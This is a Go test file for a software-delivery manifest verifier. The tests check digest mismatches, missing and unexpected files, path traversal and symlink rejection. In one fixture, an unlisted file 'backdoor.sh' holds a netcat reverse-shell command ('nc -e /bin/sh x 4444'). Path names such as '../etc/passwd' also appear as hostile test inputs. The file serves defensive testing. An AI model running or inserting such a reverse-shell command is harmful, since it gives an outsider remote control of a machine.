package delivery_test

import (
	"bytes"
	"context"
	"errors"
	"io"
	"maps"
	"os"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/medguard/medguard/internal/delivery"
	"github.com/medguard/medguard/internal/i18n"
	"github.com/medguard/medguard/internal/problem"
)

// catalogue renders the problem messages.
var catalogue = i18n.MustLoad()

func TestVerifyFiles(t *testing.T) {
	const tarball, sbom, doc = "his-server-5.2.0.tar.gz", "sbom/his-5.2.0.cdx.json", "docs/安装说明.txt"
	orig := deliveryFiles()
	m := reparse(t, buildManifest(t, orig))
	flipped := func(b []byte) []byte { b = bytes.Clone(b); b[len(b)/2] ^= 1; return b }
	type want struct {
		statuses   map[string]string // by name; unnamed artifacts must be ok
		mismatched []string          // of the one non-ok artifact, if any
		detail     string            // substring of its detail
		unexpected []string
		problems   []string // substrings, in order
	}
	for _, c := range []struct {
		name   string
		change func(map[string][]byte)
		opt    delivery.VerifyOptions
		want   want
	}{
		{name: "all present", change: func(map[string][]byte) {}},
		{name: "tampered file", change: func(c map[string][]byte) { c[tarball] = flipped(c[tarball]) }, want: want{
			statuses: map[string]string{tarball: delivery.ArtifactDigestMismatch}, mismatched: []string{"SHA-256", "SM3"},
			detail: "SHA-256 and SM3 digests do not match", problems: []string{`artifact "his-server-5.2.0.tar.gz": SHA-256 and SM3 digests do not match`}}},
		{name: "truncated file", change: func(c map[string][]byte) { c[sbom] = c[sbom][:10] }, want: want{
			statuses: map[string]string{sbom: delivery.ArtifactSizeMismatch}, mismatched: []string{"SHA-256", "SM3"},
			detail: "size is 10 bytes, the manifest declares 58; SHA-256 and SM3 digests do not match", problems: []string{`artifact "sbom/his-5.2.0.cdx.json": size is 10 bytes`}}},
		{name: "missing file", change: func(c map[string][]byte) { delete(c, doc) }, want: want{
			statuses: map[string]string{doc: delivery.ArtifactMissing}, problems: []string{`artifact "docs/安装说明.txt" is missing`}}},
		{name: "unexpected file", change: func(c map[string][]byte) { c["backdoor.sh"] = []byte("nc -e /bin/sh x 4444\n") }, want: want{
			unexpected: []string{"backdoor.sh"}, problems: []string{`unexpected file "backdoor.sh": not listed in the manifest`}}},
		{name: "ignored file", change: func(c map[string][]byte) { c["manifest.json"] = []byte("{}") },
			opt: delivery.VerifyOptions{Ignore: []string{"manifest.json"}}},
		{name: "everything wrong", change: func(c map[string][]byte) {
			delete(c, sbom)
			c[tarball] = flipped(c[tarball])
			c["z.txt"], c["a.txt"] = nil, nil
		}, opt: delivery.VerifyOptions{RequireSignature: true}, want: want{
			statuses:   map[string]string{tarball: delivery.ArtifactDigestMismatch, sbom: delivery.ArtifactMissing},
			mismatched: []string{"SHA-256", "SM3"}, detail: "SHA-256 and SM3 digests do not match",
			unexpected: []string{"a.txt", "z.txt"},
			problems:   []string{"his-server", `"sbom/his-5.2.0.cdx.json" is missing`, `"a.txt"`, `"z.txt"`, "the manifest is not signed, and a signature is required"}}},
	} {
		t.Run(c.name, func(t *testing.T) {
			contents := maps.Clone(orig)
			c.change(contents)
			c.opt.Now = verifyAt
			rep := verifyMem(t, m, contents, nil, c.opt)
			if rep.OK != (len(c.want.problems) == 0) {
				t.Fatalf("OK=%v, problems %q", rep.OK, rep.Problems())
			}
			var names []string
			for _, a := range rep.Artifacts {
				names = append(names, a.Name)
				want := c.want.statuses[a.Name]
				if want == "" {
					want = delivery.ArtifactOK
				}
				if a.Status != want {
					t.Errorf("%s: status %s, want %s (%s)", a.Name, a.Status, want, a.Detail)
				}
				if a.Expected.Size == 0 || a.Expected.SHA256 == "" || a.Expected.SM3 == "" {
					t.Errorf("%s: expected digests not reported: %+v", a.Name, a.Expected)
				}
				switch a.Status {
				case delivery.ArtifactOK:
					if a.Actual != a.Expected || a.Mismatched != nil || a.Detail != "" {
						t.Errorf("%s: ok but %+v", a.Name, a)
					}
				case delivery.ArtifactMissing:
					if a.Actual != (delivery.Digests{}) {
						t.Errorf("%s: missing but actual digests %+v", a.Name, a.Actual)
					}
				default:
					if diff := cmp.Diff(c.want.mismatched, a.Mismatched); diff != "" {
						t.Errorf("%s: mismatched digests (-want +got):\n%s", a.Name, diff)
					}
					if !strings.Contains(a.Detail, c.want.detail) {
						t.Errorf("%s: detail %q, want %q", a.Name, a.Detail, c.want.detail)
					}
					if want, _ := delivery.Digest(bytes.NewReader(contents[a.Name])); a.Actual != want {
						t.Errorf("%s: actual %+v, want %+v", a.Name, a.Actual, want)
					}
				}
			}
			if !slices.IsSorted(names) || len(names) != 3 {
				t.Errorf("artifacts reported %q, want all three in name order", names)
			}
			if diff := cmp.Diff(c.want.unexpected, rep.Unexpected, cmpEmpty); diff != "" {
				t.Errorf("unexpected files (-want +got):\n%s", diff)
			}
			problems := rep.Problems()
			if len(problems) != len(c.want.problems) {
				t.Fatalf("problems %q, want %d", problems, len(c.want.problems))
			}
			for i, p := range problems {
				if !strings.Contains(p, c.want.problems[i]) {
					t.Errorf("problem %d %q, want it to contain %q", i, p, c.want.problems[i])
				}
			}
			// The catalogue messages say the same, one per problem: in English word for word.
			msgs := rep.ProblemMessages()
			if len(msgs) != len(problems) {
				t.Fatalf("problem messages %v, want one per problem %q", msgs, problems)
			}
			for i, m := range msgs {
				if got := catalogue.Render("en", m); got != problems[i] {
					t.Errorf("problem message %d renders %q, want %q", i, got, problems[i])
				}
				if got := catalogue.Render("zh-CN", m); got == problems[i] || strings.Contains(got, "%!") {
					t.Errorf("problem message %d in zh-CN: %q", i, got)
				}
			}
			// An unsigned manifest is a warning when no signature is required, else a problem.
			if warned := slices.ContainsFunc(rep.Warnings, func(w string) bool { return strings.Contains(w, "not signed") }); warned == c.opt.RequireSignature {
				t.Errorf("signature required %v, warnings %q", c.opt.RequireSignature, rep.Warnings)
			}
		})
	}
}

func TestVerifyOddReceivedNames(t *testing.T) {
	contents := deliveryFiles()
	m := buildManifest(t, contents)
	odd := []string{"/etc/passwd", "../up", "new\nline", `back\slash`, "./his-server-5.2.0.tar.gz"}
	for _, name := range odd {
		contents[name] = []byte("x")
	}
	rep := verifyMem(t, m, contents, nil, delivery.VerifyOptions{})
	slices.Sort(odd)
	if diff := cmp.Diff(odd, rep.Unexpected); diff != "" {
		t.Fatalf("unexpected (-want +got):\n%s", diff)
	}
	if rep.OK || len(rep.Problems()) != len(odd) {
		t.Fatalf("problems %q", rep.Problems())
	}
	for _, a := range rep.Artifacts {
		if a.Status != delivery.ArtifactOK {
			t.Errorf("%s: %s", a.Name, a.Status)
		}
	}
}

// cmpEmpty treats nil and empty slices alike.
var cmpEmpty = cmp.Transformer("empty", func(s []string) []string {
	if len(s) == 0 {
		return nil
	}
	return s
})

func TestVerifyOneDigest(t *testing.T) {
	contents := deliveryFiles()
	m := buildManifest(t, contents)
	m.Artifacts[0].SHA256 = "" // docs/安装说明.txt: SM3 only
	m.Artifacts[1].SM3 = ""    // his-server: SHA-256 only
	tampered := maps.Clone(contents)
	tampered["docs/安装说明.txt"] = []byte("先升级，再停服务。\n")
	tampered["his-server-5.2.0.tar.gz"] = bytes.ToUpper(contents["his-server-5.2.0.tar.gz"])
	rep := verifyMem(t, m, tampered, nil, delivery.VerifyOptions{})
	want := map[string][]string{"docs/安装说明.txt": {"SM3"}, "his-server-5.2.0.tar.gz": {"SHA-256"}}
	for _, a := range rep.Artifacts {
		if diff := cmp.Diff(want[a.Name], a.Mismatched); diff != "" {
			t.Errorf("%s mismatched (-want +got):\n%s", a.Name, diff)
		}
	}
	if p := strings.Join(rep.Problems(), "\n"); !strings.Contains(p, "SM3 digest does not match") || !strings.Contains(p, "SHA-256 digest does not match") || strings.Contains(p, "and") {
		t.Errorf("problems %q", p)
	}
	w := strings.Join(rep.Warnings, "\n")
	for _, s := range []string{`"docs/安装说明.txt" declares no SHA-256 digest; only SM3 was checked`, `"his-server-5.2.0.tar.gz" declares no SM3 digest; only SHA-256 was checked`} {
		if !strings.Contains(w, s) {
			t.Errorf("warnings %q lack %q", w, s)
		}
	}
	if strings.Contains(w, "sbom") {
		t.Errorf("warning about an artifact with both digests: %q", w)
	}
}

func TestVerifyErrors(t *testing.T) {
	contents := deliveryFiles()
	m := buildManifest(t, contents)
	files := asFiles(contents)
	ctx := context.Background()
	cancelled, cancel := context.WithCancel(ctx)
	cancel()
	badManifest := *m
	badManifest.Artifacts = slices.Clone(m.Artifacts)
	badManifest.Artifacts[0].Name = "../x"
	for _, c := range []struct {
		name  string
		ctx   context.Context
		m     *delivery.Manifest
		files []delivery.File
		want  string
	}{
		{"no manifest", ctx, nil, files, "no manifest"},
		{"invalid manifest", ctx, &badManifest, files, `artifacts[0].name: contains ".."`},
		{"repeated received name", ctx, m, append(slices.Clone(files), files[0]), "is given twice"},
		{"empty received name", ctx, m, append(slices.Clone(files), memFile("", nil)), "received[3].name: required"},
		{"no opener", ctx, m, append(slices.Clone(files), delivery.File{Name: "x"}), "received[3].open: no way to open"},
		{"unreadable file", ctx, m, append(slices.Clone(files[1:]), failingFile(files[0].Name)), "disk on fire"},
		{"cancelled", cancelled, m, files, "context canceled"},
	} {
		t.Run(c.name, func(t *testing.T) {
			rep, err := delivery.Verify(c.ctx, c.m, c.files, delivery.Trust{}, delivery.VerifyOptions{})
			if err == nil || !strings.Contains(err.Error(), c.want) {
				t.Fatalf("error %v, want %q", err, c.want)
			}
			if rep.OK || rep.Artifacts != nil {
				t.Fatalf("a failed verification returned a report: %+v", rep)
			}
		})
	}
	// A file that fails half-way is an error too, not a mismatch.
	broken := delivery.File{Name: files[0].Name, Open: func() (io.ReadCloser, error) {
		return io.NopCloser(io.MultiReader(strings.NewReader("partial"), errReader{})), nil
	}}
	if _, err := delivery.Verify(ctx, m, append(slices.Clone(files[1:]), broken), delivery.Trust{}, delivery.VerifyOptions{}); !errors.Is(err, errRead) {
		t.Fatalf("read error: %v", err)
	}
}

var errRead = errors.New("read error")

type errReader struct{}

func (errReader) Read([]byte) (int, error) { return 0, errRead }

func TestVerifyFutureDelivery(t *testing.T) {
	contents := deliveryFiles()
	m := buildManifest(t, contents)
	rep := verifyMem(t, m, contents, nil, delivery.VerifyOptions{Now: deliveredAt.Add(-time.Hour)})
	if !rep.OK || !slices.ContainsFunc(rep.Warnings, func(w string) bool { return strings.Contains(w, "later than the verification time") }) {
		t.Fatalf("OK=%v warnings %q", rep.OK, rep.Warnings)
	}
}

func TestZeroReportIsNotOK(t *testing.T) {
	if p := (delivery.Report{}).Problems(); len(p) == 0 {
		t.Fatal("an empty report has no problems")
	}
}

func TestDigest(t *testing.T) {
	for _, c := range []struct {
		in   string
		want delivery.Digests
	}{
		{"", delivery.Digests{
			SHA256: "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
			SM3:    "1ab21d8355cfa17f8e61194831e81a8f22bec8c728fefb747ed035eb5082aa2b"}},
		// GB/T 32905-2016 appendix A, example 1.
		{"abc", delivery.Digests{Size: 3,
			SHA256: "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad",
			SM3:    "66c7f0f462eeedd9d1f2d46bdc10e4e24167c4875cf2f7a2297da02b8f4ba8e0"}},
		// GB/T 32905-2016 appendix A, example 2: "abcd" 16 times.
		{strings.Repeat("abcd", 16), delivery.Digests{Size: 64,
			SHA256: "625b41490b883891943c5fa54ad45d7c900b9b6e91e159334e320b1f5215a209",
			SM3:    "debe9ff92275b8a138604889c18e5a4d6fdb70e5387e5765293dcba39c0c5732"}},
	} {
		got, err := delivery.Digest(strings.NewReader(c.in))
		if err != nil {
			t.Fatal(err)
		}
		if got != c.want {
			t.Errorf("Digest(%.8q…) = %+v, want %+v", c.in, got, c.want)
		}
	}
	if _, err := delivery.Digest(io.MultiReader(strings.NewReader("x"), errReader{})); !errors.Is(err, errRead) {
		t.Fatalf("read error: %v", err)
	}
}

// TestDigestMemoryFlat digests a 64 MiB stream and checks that memory use does not grow
// with it (a digest that read the file into memory would allocate 64 MiB or more).
func TestDigestMemoryFlat(t *testing.T) {
	const size = 64 << 20
	var before, after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	d, err := delivery.Digest(io.LimitReader(zeros{}, size))
	runtime.ReadMemStats(&after)
	if err != nil || d.Size != size {
		t.Fatalf("Digest = %+v, %v", d, err)
	}
	if grew := after.TotalAlloc - before.TotalAlloc; grew > 4<<20 {
		t.Fatalf("digesting %d bytes allocated %d bytes", size, grew)
	}
}

type zeros struct{}

func (zeros) Read(p []byte) (int, error) { clear(p); return len(p), nil }

func TestBuild(t *testing.T) {
	contents := deliveryFiles()
	at := time.Date(2026, 11, 1, 16, 0, 0, 999, time.FixedZone("CST", 8*3600))
	m, err := delivery.Build("东华软件", "HIS", "5.2.0", "D1", at, asFiles(contents))
	if err != nil {
		t.Fatal(err)
	}
	if !m.DeliveredAt.Equal(deliveredAt) || m.DeliveredAt.Location() != time.UTC {
		t.Errorf("delivered_at %v, want %v", m.DeliveredAt, deliveredAt)
	}
	var names []string
	for _, a := range m.Artifacts {
		names = append(names, a.Name)
		d, _ := delivery.Digest(bytes.NewReader(contents[a.Name]))
		if got := (delivery.Digests{SHA256: a.SHA256, SM3: a.SM3, Size: a.Size}); got != d {
			t.Errorf("%s: %+v, want %+v", a.Name, got, d)
		}
	}
	if want := []string{"docs/安装说明.txt", "his-server-5.2.0.tar.gz", "sbom/his-5.2.0.cdx.json"}; !slices.Equal(names, want) {
		t.Errorf("artifacts %q, want %q", names, want)
	}
	if m.Signature != nil || m.Schema != delivery.SchemaV1 {
		t.Errorf("built manifest %+v", m)
	}

	mustNotOpen := delivery.File{Name: "big.iso", Open: func() (io.ReadCloser, error) {
		t.Error("Build read a file before checking its arguments")
		return nil, errors.New("no")
	}}
	for _, c := range []struct {
		name, vendor string
		files        []delivery.File
		want         string
		invalid      bool // a *problem.Error of KindInvalid, not an I/O error
	}{
		{"no files", "v", nil, "artifacts: at least one artifact is required", true},
		{"bad vendor", "a\nb", []delivery.File{mustNotOpen}, "vendor: must not contain", true},
		{"traversal", "v", []delivery.File{mustNotOpen, memFile("../etc/passwd", nil)}, `files[1].name: contains ".."`, true},
		{"backslash", "v", []delivery.File{memFile(`bin\x.exe`, nil)}, `files[0].name: contains a backslash`, true},
		{"duplicate", "v", []delivery.File{mustNotOpen, memFile("big.iso", nil)}, `files[1].name: the name is given twice (also files[0])`, true},
		{"unreadable", "v", []delivery.File{failingFile("a")}, "delivery: a: disk on fire", false},
	} {
		t.Run(c.name, func(t *testing.T) {
			_, err := delivery.Build(c.vendor, "p", "1", "d", at, c.files)
			if err == nil || !strings.Contains(err.Error(), c.want) {
				t.Fatalf("error %v, want %q", err, c.want)
			}
			if got := problem.KindOf(err) == problem.KindInvalid; got != c.invalid {
				t.Errorf("error %v: KindInvalid %v, want %v", err, got, c.invalid)
			}
		})
	}
}

func TestFilesFromPaths(t *testing.T) {
	dir := t.TempDir()
	write := func(name, content string) string {
		path := filepath.Join(dir, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
		return path
	}
	a := write("a.tar.gz", "A")
	write("sbom/b.cdx.json", "B")
	write("sbom/deep/c 空格.txt", "C")
	outside := filepath.Join(t.TempDir(), "outside.txt")
	if err := os.WriteFile(outside, []byte("O"), 0o644); err != nil {
		t.Fatal(err)
	}
	names := func(files []delivery.File) []string {
		var out []string
		for _, f := range files {
			out = append(out, f.Name)
		}
		return out
	}
	all := []string{"a.tar.gz", "sbom/b.cdx.json", "sbom/deep/c 空格.txt"}

	files, err := delivery.FilesFromPaths(dir, []string{dir})
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(all, names(files)); diff != "" {
		t.Fatalf("whole directory (-want +got):\n%s", diff)
	}
	rc, err := files[2].Open()
	if err != nil {
		t.Fatal(err)
	}
	body, _ := io.ReadAll(rc)
	rc.Close()
	if string(body) != "C" {
		t.Fatalf("opened %q", body)
	}
	files, err = delivery.FilesFromPaths(dir, []string{filepath.Join(dir, "sbom"), a})
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(all, names(files)); diff != "" {
		t.Fatalf("file and sub-directory (-want +got):\n%s", diff)
	}

	for _, c := range []struct {
		name  string
		paths []string
		want  string
	}{
		{"outside base", []string{outside}, "is not under"},
		{"base itself as a file", []string{filepath.Dir(dir)}, "is not under"},
		{"twice", []string{dir, a}, "a.tar.gz is given twice"},
		{"absent", []string{filepath.Join(dir, "nope")}, "no such file"},
	} {
		t.Run(c.name, func(t *testing.T) {
			if _, err := delivery.FilesFromPaths(dir, c.paths); err == nil || !strings.Contains(err.Error(), c.want) {
				t.Fatalf("error %v, want %q", err, c.want)
			}
		})
	}
	t.Run("symlink", func(t *testing.T) {
		if err := os.Symlink(outside, filepath.Join(dir, "sbom", "link")); err != nil {
			t.Skipf("cannot make a symbolic link: %v", err)
		}
		if _, err := delivery.FilesFromPaths(dir, []string{dir}); err == nil || !strings.Contains(err.Error(), "is a symbolic link") {
			t.Fatalf("error %v", err)
		}
	})
}
